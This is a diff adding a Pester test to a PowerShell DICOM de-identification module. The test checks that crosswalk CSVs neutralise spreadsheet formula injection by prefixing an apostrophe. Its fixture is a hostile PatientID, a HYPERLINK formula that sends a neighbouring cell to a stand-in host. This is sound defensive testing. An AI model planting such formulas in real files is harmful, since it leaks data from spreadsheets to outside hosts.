@@ -222,3 +222,31 @@ Describe 'An identifier crosswalk saved in another encoding than UTF-8' {
         (Get-DicomIdentifier -LiteralPath $fixed[0].OutputPath).PatientName | Should -Be "M$([char]0xFC)ller^Jos$([char]0xE9)"
     }
 }
+
+Describe 'An original a spreadsheet would run as a formula' {
+    It 'is written after an apostrophe, read back as it was by the next run and by Merge-DeidCrosswalk (CSV injection)' {
+        $src = Join-Path $folder 'formula-in'
+        $null = New-DicomSample -Path $src -Count 1 -Seed 77
+        $file = (Get-ChildItem -LiteralPath $src -Filter *.dcm)[0].FullName
+        $named = Join-Path $folder 'formula-named'
+        'FORMAT dicom', '%header', 'REPLACE PatientID =HYPERLINK("http://example.invalid/"&C2;"open")' | Set-Content -LiteralPath (Join-Path $folder 'formula.deid')
+        Invoke-DeidReplace -LiteralPath $file -Recipe (Join-Path $folder 'formula.deid') -OutputFolder $named -WarningAction SilentlyContinue
+        $hostile = (Get-ChildItem -LiteralPath $named -Filter *.dcm)[0].FullName
+        $original = (Get-DicomIdentifier -LiteralPath $hostile).PatientID
+        $original | Should -BeLike '=HYPERLINK*'
+
+        $cw = Join-Path $folder 'formula.csv'
+        $recipe = Join-Path $folder 'formula-id.deid'
+        'FORMAT dicom', '%header', 'REPLACE PatientID SUBJ-1' | Set-Content -LiteralPath $recipe
+        Invoke-DeidReplace -LiteralPath $hostile -Recipe $recipe -OutputFolder (Join-Path $folder 'formula-out') -CrosswalkPath $cw -WarningAction SilentlyContinue
+        $line = @(Get-Content -LiteralPath $cw | Where-Object { $_ -like 'PatientID,*' })
+        $line.Count | Should -Be 1
+        $line[0] | Should -BeLike "PatientID,`"'=HYPERLINK*"
+        # The same run again over the crosswalk it wrote: the row reads back as the original, so no conflict.
+        Invoke-DeidReplace -LiteralPath $hostile -Recipe $recipe -OutputFolder (Join-Path $folder 'formula-out') -CrosswalkPath $cw -Force -ErrorVariable again -ErrorAction SilentlyContinue -WarningAction SilentlyContinue
+        $again.Count | Should -Be 0
+        $merged = Join-Path $folder 'formula-merged.csv'
+        Merge-DeidCrosswalk -Path $cw -OutputPath $merged
+        @(Get-Content -LiteralPath $merged | Where-Object { $_ -like 'PatientID,*' })[0] | Should -Be $line[0]
+    }
+}
